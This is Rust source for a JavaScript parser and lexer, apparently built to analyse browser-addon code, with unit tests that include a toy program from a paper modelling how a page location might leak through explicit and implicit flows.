            while !self.peek().kind.is_punct(Punct::RBrace)
                && !self.peek().kind.is_keyword(Keyword::Case)
                && !self.peek().kind.is_keyword(Keyword::Default)
            {
                if self.at_eof() {
                    return Err(self.err_expected("}"));
                }
                body.push(self.statement()?);
            }
            cases.push(SwitchCase { test, body });
        }
        self.bump(); // `}`
        Ok(Stmt {
            kind: StmtKind::Switch { disc, cases },
            span: start,
        })
    }

    fn function_rest(&mut self, start: Span, require_name: bool) -> Result<Function, ParseError> {
        let name = match &self.peek().kind {
            TokenKind::Ident(_) => Some(self.expect_ident()?),
            _ if require_name => return Err(self.err_expected("function name")),
            _ => None,
        };
        self.expect_punct(Punct::LParen)?;
        let mut params = Vec::new();
        if !self.peek().kind.is_punct(Punct::RParen) {
            loop {
                params.push(self.expect_ident()?);
                if !self.eat_punct(Punct::Comma) {
                    break;
                }
            }
        }
        self.expect_punct(Punct::RParen)?;
        let id = FunId(self.next_fun);
        self.next_fun += 1;
        let body = self.block()?;
        Ok(Function {
            id,
            name,
            params,
            body,
            span: start,
        })
    }

    // ----- Expressions ---------------------------------------------------

    fn expression(&mut self, allow_in: bool) -> Result<Expr, ParseError> {
        let first = self.assignment(allow_in)?;
        if !self.peek().kind.is_punct(Punct::Comma) {
            return Ok(first);
        }
        let span = first.span;
        let mut seq = vec![first];
        while self.eat_punct(Punct::Comma) {
            seq.push(self.assignment(allow_in)?);
        }
        Ok(Expr {
            kind: ExprKind::Seq(seq),
            span,
        })
    }

    fn assignment(&mut self, allow_in: bool) -> Result<Expr, ParseError> {
        let left = self.conditional(allow_in)?;
        let op = match &self.peek().kind {
            TokenKind::Punct(Punct::Eq) => None,
            TokenKind::Punct(p) => match assign_op(*p) {
                Some(op) => Some(op),
                None => return Ok(left),
            },
            _ => return Ok(left),
        };
        if !left.is_assign_target() {
            return Err(ParseError {
                kind: ParseErrorKind::InvalidAssignTarget,
                span: left.span,
            });
        }
        self.bump();
        let value = self.assignment(allow_in)?;
        let span = left.span.to(value.span);
        Ok(Expr {
            kind: ExprKind::Assign {
                op,
                target: Box::new(left),
                value: Box::new(value),
            },
            span,
        })
    }

    fn conditional(&mut self, allow_in: bool) -> Result<Expr, ParseError> {
        let test = self.binary(0, allow_in)?;
        if !self.eat_punct(Punct::Question) {
            return Ok(test);
        }
        let cons = self.assignment(true)?;
        self.expect_punct(Punct::Colon)?;
        let alt = self.assignment(allow_in)?;
        let span = test.span.to(alt.span);
        Ok(Expr {
            kind: ExprKind::Cond {
                test: Box::new(test),
                cons: Box::new(cons),
                alt: Box::new(alt),
            },
            span,
        })
    }

    /// Precedence-climbing parser for binary and logical operators.
    fn binary(&mut self, min_prec: u8, allow_in: bool) -> Result<Expr, ParseError> {
        let mut left = self.unary()?;
        loop {
            let (prec, kind) = match self.binop_here(allow_in) {
                Some(pair) => pair,
                None => return Ok(left),
            };
            if prec < min_prec {
                return Ok(left);
            }
            self.bump();
            let right = self.binary(prec + 1, allow_in)?;
            let span = left.span.to(right.span);
            left = Expr {
                kind: match kind {
                    BinOrLogical::Bin(op) => ExprKind::Binary {
                        op,
                        left: Box::new(left),
                        right: Box::new(right),
                    },
                    BinOrLogical::Logical(is_and) => ExprKind::Logical {
                        is_and,
                        left: Box::new(left),
                        right: Box::new(right),
                    },
                },
                span,
            };
        }
    }

    fn binop_here(&self, allow_in: bool) -> Option<(u8, BinOrLogical)> {
        use BinaryOp::*;
        use Punct as P;
        let (prec, kind) = match &self.peek().kind {
            TokenKind::Keyword(Keyword::In) if allow_in => (7, BinOrLogical::Bin(In)),
            TokenKind::Keyword(Keyword::Instanceof) => (7, BinOrLogical::Bin(Instanceof)),
            TokenKind::Punct(p) => match p {
                P::PipePipe => (1, BinOrLogical::Logical(false)),
                P::AmpAmp => (2, BinOrLogical::Logical(true)),
                P::Pipe => (3, BinOrLogical::Bin(BitOr)),
                P::Caret => (4, BinOrLogical::Bin(BitXor)),
                P::Amp => (5, BinOrLogical::Bin(BitAnd)),
                P::EqEq => (6, BinOrLogical::Bin(Eq)),
                P::NotEq => (6, BinOrLogical::Bin(NotEq)),
                P::EqEqEq => (6, BinOrLogical::Bin(StrictEq)),
                P::NotEqEq => (6, BinOrLogical::Bin(StrictNotEq)),
                P::Lt => (7, BinOrLogical::Bin(Lt)),
                P::Le => (7, BinOrLogical::Bin(Le)),
                P::Gt => (7, BinOrLogical::Bin(Gt)),
                P::Ge => (7, BinOrLogical::Bin(Ge)),
                P::Shl => (8, BinOrLogical::Bin(Shl)),
                P::Shr => (8, BinOrLogical::Bin(Shr)),
                P::UShr => (8, BinOrLogical::Bin(UShr)),
                P::Plus => (9, BinOrLogical::Bin(Add)),
                P::Minus => (9, BinOrLogical::Bin(Sub)),
                P::Star => (10, BinOrLogical::Bin(Mul)),
                P::Slash => (10, BinOrLogical::Bin(Div)),
                P::Percent => (10, BinOrLogical::Bin(Mod)),
                _ => return None,
            },
            _ => return None,
        };
        Some((prec, kind))
    }

    fn unary(&mut self) -> Result<Expr, ParseError> {
        let start = self.peek().span;
        let op = match &self.peek().kind {
            TokenKind::Punct(Punct::Minus) => Some(UnaryOp::Neg),
            TokenKind::Punct(Punct::Plus) => Some(UnaryOp::Pos),
            TokenKind::Punct(Punct::Bang) => Some(UnaryOp::Not),
            TokenKind::Punct(Punct::Tilde) => Some(UnaryOp::BitNot),
            TokenKind::Keyword(Keyword::Typeof) => Some(UnaryOp::Typeof),
            TokenKind::Keyword(Keyword::Void) => Some(UnaryOp::Void),
            TokenKind::Keyword(Keyword::Delete) => Some(UnaryOp::Delete),
            TokenKind::Punct(Punct::PlusPlus) | TokenKind::Punct(Punct::MinusMinus) => {
                let inc = self.peek().kind.is_punct(Punct::PlusPlus);
                self.bump();
                let arg = self.unary()?;
                if !arg.is_assign_target() {
                    return Err(ParseError {
                        kind: ParseErrorKind::InvalidAssignTarget,
                        span: arg.span,
                    });
                }
                let span = start.to(arg.span);
                return Ok(Expr {
                    kind: ExprKind::Update {
                        inc,
                        prefix: true,
                        arg: Box::new(arg),
                    },
                    span,
                });
            }
            _ => None,
        };
        if let Some(op) = op {
            self.bump();
            let arg = self.unary()?;
            let span = start.to(arg.span);
            return Ok(Expr {
                kind: ExprKind::Unary {
                    op,
                    arg: Box::new(arg),
                },
                span,
            });
        }
        self.postfix()
    }

    fn postfix(&mut self) -> Result<Expr, ParseError> {
        let e = self.call_expr()?;
        // No newline allowed before postfix ++/--.
        if !self.peek().newline_before
            && (self.peek().kind.is_punct(Punct::PlusPlus)
                || self.peek().kind.is_punct(Punct::MinusMinus))
        {
            let inc = self.peek().kind.is_punct(Punct::PlusPlus);
            if !e.is_assign_target() {
                return Err(ParseError {
                    kind: ParseErrorKind::InvalidAssignTarget,
                    span: e.span,
                });
            }
            let end = self.bump().span;
            let span = e.span.to(end);
            return Ok(Expr {
                kind: ExprKind::Update {
                    inc,
                    prefix: false,
                    arg: Box::new(e),
                },
                span,
            });
        }
        Ok(e)
    }

    /// Parses `new` expressions, member accesses, and calls.
    fn call_expr(&mut self) -> Result<Expr, ParseError> {
        let mut e = if self.peek().kind.is_keyword(Keyword::New) {
            self.new_expr()?
        } else {
            self.primary()?
        };
        loop {
            e = match &self.peek().kind {
                TokenKind::Punct(Punct::Dot) => {
                    self.bump();
                    let name = self.member_name()?;
                    let span = e.span.to(name.1);
                    Expr {
                        kind: ExprKind::Member {
                            obj: Box::new(e),
                            prop: MemberProp::Static(name.0),
                        },
                        span,
                    }
                }
                TokenKind::Punct(Punct::LBracket) => {
                    self.bump();
                    let idx = self.expression(true)?;
                    let end = self.expect_punct(Punct::RBracket)?;
                    let span = e.span.to(end);
                    Expr {
                        kind: ExprKind::Member {
                            obj: Box::new(e),
                            prop: MemberProp::Computed(Box::new(idx)),
                        },
                        span,
                    }
                }
                TokenKind::Punct(Punct::LParen) => {
                    let args = self.arguments()?;
                    let span = e.span;
                    Expr {
                        kind: ExprKind::Call {
                            callee: Box::new(e),
                            args,
                        },
                        span,
                    }
                }
                _ => return Ok(e),
            };
        }
    }

    /// Member names after `.` may be keywords (`obj.delete` etc.).
    fn member_name(&mut self) -> Result<(String, Span), ParseError> {
        match &self.peek().kind {
            TokenKind::Ident(name) => {
                let name = name.clone();
                let span = self.bump().span;
                Ok((name, span))
            }
            TokenKind::Keyword(kw) => {
                let name = kw.as_str().to_owned();
                let span = self.bump().span;
                Ok((name, span))
            }
            _ => Err(self.err_expected("property name")),
        }
    }

    fn new_expr(&mut self) -> Result<Expr, ParseError> {
        let start = self.bump().span; // `new`
        let mut callee = if self.peek().kind.is_keyword(Keyword::New) {
            self.new_expr()?
        } else {
            self.primary()?
        };
        // Member accesses bind tighter than the `new` arguments.
        loop {
            callee = match &self.peek().kind {
                TokenKind::Punct(Punct::Dot) => {
                    self.bump();
                    let name = self.member_name()?;
                    let span = callee.span.to(name.1);
                    Expr {
                        kind: ExprKind::Member {
                            obj: Box::new(callee),
                            prop: MemberProp::Static(name.0),
                        },
                        span,
                    }
                }
                TokenKind::Punct(Punct::LBracket) => {
                    self.bump();
                    let idx = self.expression(true)?;
                    let end = self.expect_punct(Punct::RBracket)?;
                    let span = callee.span.to(end);
                    Expr {
                        kind: ExprKind::Member {
                            obj: Box::new(callee),
                            prop: MemberProp::Computed(Box::new(idx)),
                        },
                        span,
                    }
                }
                _ => break,
            };
        }
        let args = if self.peek().kind.is_punct(Punct::LParen) {
            self.arguments()?
        } else {
            Vec::new()
        };
        Ok(Expr {
            span: start.to(callee.span),
            kind: ExprKind::New {
                callee: Box::new(callee),
                args,
            },
        })
    }

    fn arguments(&mut self) -> Result<Vec<Expr>, ParseError> {
        self.expect_punct(Punct::LParen)?;
        let mut args = Vec::new();
        if !self.peek().kind.is_punct(Punct::RParen) {
            loop {
                args.push(self.assignment(true)?);
                if !self.eat_punct(Punct::Comma) {
                    break;
                }
            }
        }
        self.expect_punct(Punct::RParen)?;
        Ok(args)
    }

    fn primary(&mut self) -> Result<Expr, ParseError> {
        let span = self.peek().span;
        let kind = match &self.peek().kind {
            TokenKind::Num(n) => {
                let n = *n;
                self.bump();
                ExprKind::Num(n)
            }
            TokenKind::Str(s) => {
                let s = s.clone();
                self.bump();
                ExprKind::Str(s)
            }
            TokenKind::Regex(r) => {
                let r = r.clone();
                self.bump();
                ExprKind::Regex(r)
            }
            TokenKind::Ident(name) => {
                let name = name.clone();
                self.bump();
                ExprKind::Ident(name)
            }
            TokenKind::Keyword(Keyword::True) => {
                self.bump();
                ExprKind::Bool(true)
            }
            TokenKind::Keyword(Keyword::False) => {
                self.bump();
                ExprKind::Bool(false)
            }
            TokenKind::Keyword(Keyword::Null) => {
                self.bump();
                ExprKind::Null
            }
            TokenKind::Keyword(Keyword::This) => {
                self.bump();
                ExprKind::This
            }
            TokenKind::Keyword(Keyword::Function) => {
                self.bump();
                let f = self.function_rest(span, false)?;
                ExprKind::Function(Box::new(f))
            }
            TokenKind::Punct(Punct::LParen) => {
                self.bump();
                let e = self.expression(true)?;
                self.expect_punct(Punct::RParen)?;
                return Ok(e);
            }
            TokenKind::Punct(Punct::LBracket) => return self.array_literal(),
            TokenKind::Punct(Punct::LBrace) => return self.object_literal(),
            _ => return Err(self.err_expected("expression")),
        };
        Ok(Expr { kind, span })
    }

    fn array_literal(&mut self) -> Result<Expr, ParseError> {
        let start = self.bump().span; // `[`
        let mut elems = Vec::new();
        loop {
            if self.peek().kind.is_punct(Punct::RBracket) {
                break;
            }
            if self.eat_punct(Punct::Comma) {
                elems.push(None); // elision
                continue;
            }
            elems.push(Some(self.assignment(true)?));
            if !self.eat_punct(Punct::Comma) {
                break;
            }
        }
        let end = self.expect_punct(Punct::RBracket)?;
        Ok(Expr {
            kind: ExprKind::Array(elems),
            span: start.to(end),
        })
    }

    fn object_literal(&mut self) -> Result<Expr, ParseError> {
        let start = self.bump().span; // `{`
        let mut props = Vec::new();
        loop {
            if self.peek().kind.is_punct(Punct::RBrace) {
                break;
            }
            let key = match &self.peek().kind {
                TokenKind::Ident(name) => {
                    let k = PropKey::Ident(name.clone());
                    self.bump();
                    k
                }
                TokenKind::Str(s) => {
                    let k = PropKey::Ident(s.clone());
                    self.bump();
                    k
                }
                TokenKind::Num(n) => {
                    let k = PropKey::Num(*n);
                    self.bump();
                    k
                }
                TokenKind::Keyword(kw) => {
                    let k = PropKey::Ident(kw.as_str().to_owned());
                    self.bump();
                    k
                }
                _ => return Err(self.err_expected("property key")),
            };
            self.expect_punct(Punct::Colon)?;
            let value = self.assignment(true)?;
            props.push((key, value));
            if !self.eat_punct(Punct::Comma) {
                break;
            }
        }
        let end = self.expect_punct(Punct::RBrace)?;
        Ok(Expr {
            kind: ExprKind::Object(props),
            span: start.to(end),
        })
    }
}

enum BinOrLogical {
    Bin(BinaryOp),
    Logical(bool),
}

fn assign_op(p: Punct) -> Option<BinaryOp> {
    use BinaryOp::*;
    Some(match p {
        Punct::PlusEq => Add,
        Punct::MinusEq => Sub,
        Punct::StarEq => Mul,
        Punct::SlashEq => Div,
        Punct::PercentEq => Mod,
        Punct::ShlEq => Shl,
        Punct::ShrEq => Shr,
        Punct::UShrEq => UShr,
        Punct::AmpEq => BitAnd,
        Punct::PipeEq => BitOr,
        Punct::CaretEq => BitXor,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(src: &str) -> Program {
        parse(src).unwrap_or_else(|e| panic!("parse failed: {e}\nsource: {src}"))
    }

    fn first_expr(src: &str) -> Expr {
        match p(src).body.into_iter().next().expect("one stmt").kind {
            StmtKind::Expr(e) => e,
            other => panic!("expected expr stmt, got {other:?}"),
        }
    }

    #[test]
    fn parses_var_decls() {
        let prog = p("var a = 1, b, c = 'x';");
        match &prog.body[0].kind {
            StmtKind::VarDecl(ds) => {
                assert_eq!(ds.len(), 3);
                assert_eq!(ds[0].name.name, "a");
                assert!(ds[1].init.is_none());
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn precedence() {
        let e = first_expr("1 + 2 * 3;");
        match e.kind {
            ExprKind::Binary {
                op: BinaryOp::Add,
                right,
                ..
            } => {
                assert!(matches!(
                    right.kind,
                    ExprKind::Binary {
                        op: BinaryOp::Mul,
                        ..
                    }
                ));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn logical_and_binds_tighter_than_or() {
        let e = first_expr("a || b && c;");
        match e.kind {
            ExprKind::Logical { is_and: false, right, .. } => {
                assert!(matches!(right.kind, ExprKind::Logical { is_and: true, .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn assignment_right_associative() {
        let e = first_expr("a = b = 1;");
        match e.kind {
            ExprKind::Assign { value, .. } => {
                assert!(matches!(value.kind, ExprKind::Assign { .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn compound_assignment() {
        let e = first_expr("url += 'name';");
        assert!(matches!(
            e.kind,
            ExprKind::Assign {
                op: Some(BinaryOp::Add),
                ..
            }
        ));
    }

    #[test]
    fn member_chains_and_calls() {
        let e = first_expr("content.location.href;");
        match e.kind {
            ExprKind::Member { obj, prop } => {
                assert!(matches!(prop, MemberProp::Static(ref s) if s == "href"));
                assert!(matches!(obj.kind, ExprKind::Member { .. }));
            }
            other => panic!("{other:?}"),
        }
        let e = first_expr("a.b(1)(2)[c];");
        assert!(matches!(e.kind, ExprKind::Member { .. }));
    }

    #[test]
    fn keyword_member_names() {
        let e = first_expr("x.delete;");
        assert!(
            matches!(e.kind, ExprKind::Member { prop: MemberProp::Static(ref s), .. } if s == "delete")
        );
    }

    #[test]
    fn new_expressions() {
        let e = first_expr("new XMLHttpRequest();");
        assert!(matches!(e.kind, ExprKind::New { .. }));
        // new with member callee and no parens
        let e = first_expr("new foo.Bar;");
        match e.kind {
            ExprKind::New { callee, args } => {
                assert!(args.is_empty());
                assert!(matches!(callee.kind, ExprKind::Member { .. }));
            }
            other => panic!("{other:?}"),
        }
        // `new a.B().c` — call result member access
        let e = first_expr("new a.B().c;");
        assert!(matches!(e.kind, ExprKind::Member { .. }));
    }

    #[test]
    fn object_and_array_literals() {
        let e = first_expr("x = { data: content, 'k2': 1, 3: [1,,2] };");
        match e.kind {
            ExprKind::Assign { value, .. } => match value.kind {
                ExprKind::Object(props) => {
                    assert_eq!(props.len(), 3);
                    assert_eq!(props[0].0.as_string(), "data");
                    assert_eq!(props[1].0.as_string(), "k2");
                    assert_eq!(props[2].0.as_string(), "3");
                    match &props[2].1.kind {
                        ExprKind::Array(elems) => {
                            assert_eq!(elems.len(), 3);
                            assert!(elems[1].is_none());
                        }
                        other => panic!("{other:?}"),
                    }
                }
                other => panic!("{other:?}"),
            },
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn trailing_comma_in_object() {
        p("x = { a: 1, b: 2, };");
    }

    #[test]
    fn functions_get_dense_ids() {
        let prog = p("function f() { function g() {} } var h = function() {};");
        assert_eq!(prog.fun_count, 3);
    }

    #[test]
    fn if_else_chains() {
        let prog = p("if (a) b(); else if (c) d(); else e();");
        match &prog.body[0].kind {
            StmtKind::If { alt: Some(alt), .. } => {
                assert!(matches!(alt.kind, StmtKind::If { .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn loops() {
        p("while (x) { x--; }");
        p("do { x++; } while (x < 10);");
        p("for (var i = 0; i < 10; i++) f(i);");
        p("for (;;) { break; }");
        p("for (var k in obj) { use(k); }");
        p("for (k in obj) use(k);");
    }

    #[test]
    fn try_catch_finally() {
        let prog = p("try { f(); } catch (e) { g(e); } finally { h(); }");
        match &prog.body[0].kind {
            StmtKind::Try {
                catch: Some((param, _)),
                finally: Some(_),
                ..
            } => assert_eq!(param.name, "e"),
            other => panic!("{other:?}"),
        }
        assert!(parse("try { f(); }").is_err());
    }

    #[test]
    fn switch_statement() {
        let prog = p("switch (x) { case 1: a(); break; default: b(); }");
        match &prog.body[0].kind {
            StmtKind::Switch { cases, .. } => {
                assert_eq!(cases.len(), 2);
                assert!(cases[0].test.is_some());
                assert!(cases[1].test.is_none());
            }
            other => panic!("{other:?}"),
        }
        assert!(parse("switch (x) { default: a(); default: b(); }").is_err());
    }

    #[test]
    fn labeled_break_continue() {
        p("outer: for (;;) { for (;;) { break outer; } }");
        p("loop: while (x) { continue loop; }");
    }

    #[test]
    fn asi_basic() {
        let prog = p("var a = 1\nvar b = 2\nf()");
        assert_eq!(prog.body.len(), 3);
    }

    #[test]
    fn asi_restricted_return() {
        // `return\nx` parses as `return; x;`
        let prog = p("function f() { return\n1 }");
        match &prog.body[0].kind {
            StmtKind::FunDecl(f) => {
                assert_eq!(f.body.len(), 2);
                assert!(matches!(f.body[0].kind, StmtKind::Return(None)));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn throw_requires_same_line() {
        assert!(parse("throw\n1;").is_err());
        p("throw 'irrelevant';");
    }

    #[test]
    fn conditional_expr() {
        let e = first_expr("a ? b : c ? d : e;");
        match e.kind {
            ExprKind::Cond { alt, .. } => {
                assert!(matches!(alt.kind, ExprKind::Cond { .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn unary_and_update() {
        p("x = -a + +b;");
        p("delete obj.prop;");
        p("typeof x === 'undefined';");
        let e = first_expr("i++;");
        assert!(matches!(
            e.kind,
            ExprKind::Update {
                inc: true,
                prefix: false,
                ..
            }
        ));
        assert!(parse("1++;").is_err());
    }

    #[test]
    fn in_operator_allowed_outside_for_init() {
        p("if ('k' in obj) f();");
    }

    #[test]
    fn sequence_expression() {
        let e = first_expr("a, b, c;");
        assert!(matches!(e.kind, ExprKind::Seq(ref v) if v.len() == 3));
    }

    #[test]
    fn paper_figure1_program_parses() {
        // The running example from Figure 1 of the paper.
        let src = r#"
var data = { url: doc.loc };
send(data.url);
send(data[getString()]);
func();
if (doc.loc == "secret.com")
  send(null);
var arr = ["covert.com", "priv.com"];
var i = 0, count = 0;
while (arr[i] && doc.loc != arr[i]) {
  i++;
  count++;
}
send(count);
try {
  if (doc.loc != "hush-hush.com")
    throw "irrelevant";
  send(null);
} catch (x) {};
try {
  if (doc.loc != "mystic.com")
    obj.prop = 1;
  send(null);
} catch (x) {}
"#;
        let prog = p(src);
        assert!(prog.body.len() >= 10);
    }

    #[test]
    fn error_messages_carry_location() {
        let err = parse("var = 3;").unwrap_err();
        assert!(err.to_string().contains("line 1"));
    }

    #[test]
    fn with_is_rejected() {
        assert!(parse("with (o) { f(); }").is_err());
    }
}
