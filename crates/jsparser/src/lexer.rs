//! A hand-written lexer for the JavaScript subset used by browser addons.
//!
//! The lexer is a straightforward single-pass scanner. The only subtle part
//! is distinguishing division from regular-expression literals: following
//! standard practice we decide based on the previous significant token
//! (after an identifier, literal, `)` or `]` a slash is division; in every
//! other position it begins a regex literal).

use crate::error::{ParseError, ParseErrorKind};
use crate::span::Span;
use crate::token::{Keyword, Punct, Token, TokenKind};

/// Lexes `src` into a vector of tokens terminated by [`TokenKind::Eof`].
///
/// # Errors
///
/// Returns a [`ParseError`] on malformed input: unterminated strings or
/// comments, invalid numeric literals, or characters outside the language.
pub fn lex(src: &str) -> Result<Vec<Token>, ParseError> {
    Lexer::new(src).run()
}

struct Lexer<'s> {
    src: &'s str,
    bytes: &'s [u8],
    pos: usize,
    line: u32,
    newline_before: bool,
    tokens: Vec<Token>,
}

impl<'s> Lexer<'s> {
    fn new(src: &'s str) -> Self {
        Lexer {
            src,
            bytes: src.as_bytes(),
            pos: 0,
            line: 1,
            newline_before: false,
            tokens: Vec::new(),
        }
    }

    fn run(mut self) -> Result<Vec<Token>, ParseError> {
        loop {
            self.skip_trivia()?;
            let start = self.pos;
            let line = self.line;
            if self.pos >= self.bytes.len() {
                self.push(TokenKind::Eof, start, line);
                return Ok(self.tokens);
            }
            let c = self.bytes[self.pos];
            let kind = match c {
                b'0'..=b'9' => self.number()?,
                b'"' | b'\'' => self.string(c)?,
                b'.' => {
                    if self.peek_at(1).is_some_and(|d| d.is_ascii_digit()) {
                        self.number()?
                    } else {
                        self.pos += 1;
                        TokenKind::Punct(Punct::Dot)
                    }
                }
                b'/' if self.regex_allowed() => self.regex()?,
                _ if is_ident_start(c) => self.ident(),
                _ => self.punct()?,
            };
            self.push(kind, start, line);
        }
    }

    fn push(&mut self, kind: TokenKind, start: usize, line: u32) {
        let span = Span::new(start as u32, self.pos as u32, line);
        let newline_before = std::mem::take(&mut self.newline_before);
        self.tokens.push(Token {
            kind,
            span,
            newline_before,
        });
    }

    fn peek_at(&self, off: usize) -> Option<u8> {
        self.bytes.get(self.pos + off).copied()
    }

    fn error(&self, kind: ParseErrorKind) -> ParseError {
        ParseError {
            kind,
            span: Span::new(self.pos as u32, self.pos as u32 + 1, self.line),
        }
    }

    fn skip_trivia(&mut self) -> Result<(), ParseError> {
        while self.pos < self.bytes.len() {
            match self.bytes[self.pos] {
                b'\n' => {
                    self.line += 1;
                    self.newline_before = true;
                    self.pos += 1;
                }
                b' ' | b'\t' | b'\r' | 0x0b | 0x0c => self.pos += 1,
                b'/' if self.peek_at(1) == Some(b'/') => {
                    while self.pos < self.bytes.len() && self.bytes[self.pos] != b'\n' {
                        self.pos += 1;
                    }
                }
                b'/' if self.peek_at(1) == Some(b'*') => {
                    let start = self.pos;
                    self.pos += 2;
                    loop {
                        if self.pos + 1 >= self.bytes.len() {
                            self.pos = start;
                            return Err(self.error(ParseErrorKind::UnterminatedComment));
                        }
                        if self.bytes[self.pos] == b'\n' {
                            self.line += 1;
                            self.newline_before = true;
                        }
                        if self.bytes[self.pos] == b'*' && self.bytes[self.pos + 1] == b'/' {
                            self.pos += 2;
                            break;
                        }
                        self.pos += 1;
                    }
                }
                c if c >= 0x80 => {
                    // Allow non-ASCII whitespace (e.g. NBSP) to pass as
                    // trivia only when it is actual Unicode whitespace.
                    let rest = &self.src[self.pos..];
                    let ch = rest.chars().next().expect("valid utf-8");
                    if ch.is_whitespace() {
                        self.pos += ch.len_utf8();
                    } else {
                        break;
                    }
                }
                _ => break,
            }
        }
        Ok(())
    }

    /// True if a `/` at the current position starts a regex literal rather
    /// than a division operator.
    fn regex_allowed(&self) -> bool {
        match self.tokens.last().map(|t| &t.kind) {
            None => true,
            Some(TokenKind::Ident(_))
            | Some(TokenKind::Num(_))
            | Some(TokenKind::Str(_))
            | Some(TokenKind::Regex(_)) => false,
            Some(TokenKind::Keyword(k)) => !matches!(k, Keyword::This),
            Some(TokenKind::Punct(p)) => !matches!(
                p,
                Punct::RParen | Punct::RBracket | Punct::PlusPlus | Punct::MinusMinus
            ),
            Some(TokenKind::Eof) => true,
        }
    }

    fn ident(&mut self) -> TokenKind {
        let start = self.pos;
        while self.pos < self.bytes.len() && is_ident_part(self.bytes[self.pos]) {
            self.pos += 1;
        }
        let text = &self.src[start..self.pos];
        match Keyword::lookup(text) {
            Some(kw) => TokenKind::Keyword(kw),
            None => TokenKind::Ident(text.to_owned()),
        }
    }

    fn number(&mut self) -> Result<TokenKind, ParseError> {
        let start = self.pos;
        if self.bytes[self.pos] == b'0'
            && matches!(self.peek_at(1), Some(b'x') | Some(b'X'))
        {
            self.pos += 2;
            let digits = self.pos;
            while self
                .peek_at(0)
                .is_some_and(|c| c.is_ascii_hexdigit())
            {
                self.pos += 1;
            }
            if self.pos == digits {
                return Err(self.error(ParseErrorKind::InvalidNumber));
            }
            let val = u64::from_str_radix(&self.src[digits..self.pos], 16)
                .map_err(|_| self.error(ParseErrorKind::InvalidNumber))?;
            return Ok(TokenKind::Num(val as f64));
        }
        while self.peek_at(0).is_some_and(|c| c.is_ascii_digit()) {
            self.pos += 1;
        }
        if self.peek_at(0) == Some(b'.') {
            self.pos += 1;
            while self.peek_at(0).is_some_and(|c| c.is_ascii_digit()) {
                self.pos += 1;
            }
        }
        if matches!(self.peek_at(0), Some(b'e') | Some(b'E')) {
            let mark = self.pos;
            self.pos += 1;
            if matches!(self.peek_at(0), Some(b'+') | Some(b'-')) {
                self.pos += 1;
            }
            if self.peek_at(0).is_some_and(|c| c.is_ascii_digit()) {
                while self.peek_at(0).is_some_and(|c| c.is_ascii_digit()) {
                    self.pos += 1;
                }
            } else {
                self.pos = mark;
            }
        }
        let text = &self.src[start..self.pos];
        text.parse::<f64>()
            .map(TokenKind::Num)
            .map_err(|_| self.error(ParseErrorKind::InvalidNumber))
    }

    fn string(&mut self, quote: u8) -> Result<TokenKind, ParseError> {
        self.pos += 1; // opening quote
        let mut out = String::new();
        loop {
            if self.pos >= self.bytes.len() {
                return Err(self.error(ParseErrorKind::UnterminatedString));
            }
            let c = self.bytes[self.pos];
            match c {
                _ if c == quote => {
                    self.pos += 1;
                    return Ok(TokenKind::Str(out));
                }
                b'\n' => return Err(self.error(ParseErrorKind::UnterminatedString)),
                b'\\' => {
                    self.pos += 1;
                    let esc = self
                        .peek_at(0)
                        .ok_or_else(|| self.error(ParseErrorKind::UnterminatedString))?;
                    self.pos += 1;
                    match esc {
                        b'n' => out.push('\n'),
                        b't' => out.push('\t'),
                        b'r' => out.push('\r'),
                        b'b' => out.push('\u{8}'),
                        b'f' => out.push('\u{c}'),
                        b'v' => out.push('\u{b}'),
                        b'0' => out.push('\0'),
                        b'x' => {
                            let hex = self
                                .src
                                .get(self.pos..self.pos + 2)
                                .and_then(|h| u32::from_str_radix(h, 16).ok())
                                .ok_or_else(|| self.error(ParseErrorKind::InvalidEscape))?;
                            self.pos += 2;
                            out.push(
                                char::from_u32(hex)
                                    .ok_or_else(|| self.error(ParseErrorKind::InvalidEscape))?,
                            );
                        }
                        b'u' => {
                            let hex = self
                                .src
                                .get(self.pos..self.pos + 4)
                                .and_then(|h| u32::from_str_radix(h, 16).ok())
                                .ok_or_else(|| self.error(ParseErrorKind::InvalidEscape))?;
                            self.pos += 4;
                            out.push(char::from_u32(hex).unwrap_or('\u{fffd}'));
                        }
                        b'\n' => {
                            self.line += 1; // line continuation
                        }
                        _ => {
                            // Identity escape: \' \" \\ and anything else.
                            let rest = &self.src[self.pos - 1..];
                            let ch = rest.chars().next().expect("valid utf-8");
                            out.push(ch);
                            self.pos = self.pos - 1 + ch.len_utf8();
                        }
                    }
                }
                _ if c < 0x80 => {
                    out.push(c as char);
                    self.pos += 1;
                }
                _ => {
                    let rest = &self.src[self.pos..];
                    let ch = rest.chars().next().expect("valid utf-8");
                    out.push(ch);
                    self.pos += ch.len_utf8();
                }
            }
        }
    }

    fn regex(&mut self) -> Result<TokenKind, ParseError> {
        let start = self.pos;
        self.pos += 1; // opening slash
        let mut in_class = false;
        loop {
            if self.pos >= self.bytes.len() || self.bytes[self.pos] == b'\n' {
                return Err(self.error(ParseErrorKind::UnterminatedRegex));
            }
            match self.bytes[self.pos] {
                b'\\' => self.pos += 1,
                b'[' => in_class = true,
                b']' => in_class = false,
                b'/' if !in_class => {
                    self.pos += 1;
                    break;
                }
                _ => {}
            }
            self.pos += 1;
        }
        // Flags.
        while self.peek_at(0).is_some_and(is_ident_part) {
            self.pos += 1;
        }
        Ok(TokenKind::Regex(self.src[start..self.pos].to_owned()))
    }

    fn punct(&mut self) -> Result<TokenKind, ParseError> {
        use Punct::*;
        let rest = &self.bytes[self.pos..];
        let table: &[(&[u8], Punct)] = &[
            (b">>>=", UShrEq),
            (b"===", EqEqEq),
            (b"!==", NotEqEq),
            (b">>>", UShr),
            (b"<<=", ShlEq),
            (b">>=", ShrEq),
            (b"==", EqEq),
            (b"!=", NotEq),
            (b"<=", Le),
            (b">=", Ge),
            (b"&&", AmpAmp),
            (b"||", PipePipe),
            (b"++", PlusPlus),
            (b"--", MinusMinus),
            (b"+=", PlusEq),
            (b"-=", MinusEq),
            (b"*=", StarEq),
            (b"/=", SlashEq),
            (b"%=", PercentEq),
            (b"&=", AmpEq),
            (b"|=", PipeEq),
            (b"^=", CaretEq),
